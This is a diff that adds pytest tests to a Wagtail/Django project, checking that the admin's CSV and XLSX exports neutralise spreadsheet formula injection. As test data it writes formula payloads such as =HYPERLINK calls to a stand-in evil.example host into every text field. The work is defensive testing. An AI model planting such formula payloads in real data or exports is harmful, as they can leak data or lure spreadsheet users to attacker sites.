@@ -159,3 +159,64 @@ def test_a_whole_image_is_still_accepted_by_every_path(editor, path):  # noqa: F
     status, text = upload(client_as(editor), path, "good.webp", small("WEBP"))
     assert status in (200, 302), text[:500]
     assert Image.objects.filter(file__endswith=".webp").count() == 1
+
+
+# --- 9. The admin's exports never hand a spreadsheet a formula ------------------------------------------
+
+
+FORMULA_STARTS = ("=", "+", "-", "@")
+
+
+def exporting_viewsets():
+    """Every snippet listing of the admin that offers an export (found, not listed by hand)."""
+    from wagtail.snippets.models import get_snippet_models
+
+    viewsets = [model.snippet_viewset for model in get_snippet_models()]
+    return [viewset for viewset in viewsets if isinstance(viewset.list_export, (list, tuple)) and viewset.list_export]
+
+
+def make_every_text_hostile():
+    """Every text column of every partnership row starts like a formula (written past validation, as an import might)."""
+    from django.apps import apps
+    from django.db import models
+
+    for model in apps.get_app_config("partnership").get_models():
+        text_fields = [
+            f.name
+            for f in model._meta.concrete_fields
+            if isinstance(f, (models.CharField, models.TextField)) and not f.choices and f.name != "translation_key"
+        ]
+        for index, pk in enumerate(model._base_manager.values_list("pk", flat=True)):
+            start = FORMULA_STARTS[index % len(FORMULA_STARTS)]
+            values = {name: f"{start}HYPERLINK(\"http://evil.example/{pk}\",\"{name}\")" for name in text_fields}
+            model._base_manager.filter(pk=pk).update(**values)
+
+
+def test_every_snippet_export_is_found():
+    names = {viewset.model._meta.model_name for viewset in exporting_viewsets()}
+    assert {"cooperationentry", "partner", "programme"} <= names
+
+
+@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
+def test_admin_exports_neutralise_formulas_like_the_public_export(loaded, admin_client, export_format):
+    import csv
+
+    from openpyxl import load_workbook
+
+    from partnership.views import csv_cell
+
+    make_every_text_hostile()
+    for viewset in exporting_viewsets():
+        response = admin_client.get(reverse(viewset.get_url_name("list")), {"export": export_format})
+        assert response.status_code == 200, viewset.model
+        content = b"".join(response.streaming_content) if response.streaming else response.content
+        if export_format == "csv":
+            rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
+        else:
+            rows = [[cell for cell in row] for row in load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True)]
+        cells = [cell for row in rows[1:] for cell in row if isinstance(cell, str)]
+        hostile = [cell for cell in cells if "evil.example" in cell]
+        assert hostile, f"{viewset.model.__name__}: the hostile text was not exported at all"
+        assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == [], viewset.model.__name__
+        # Exactly the public export's neutralisation: a leading quote, nothing else changed.
+        assert all(cell == csv_cell(cell[1:]) for cell in hostile if cell.startswith("'")), viewset.model.__name__
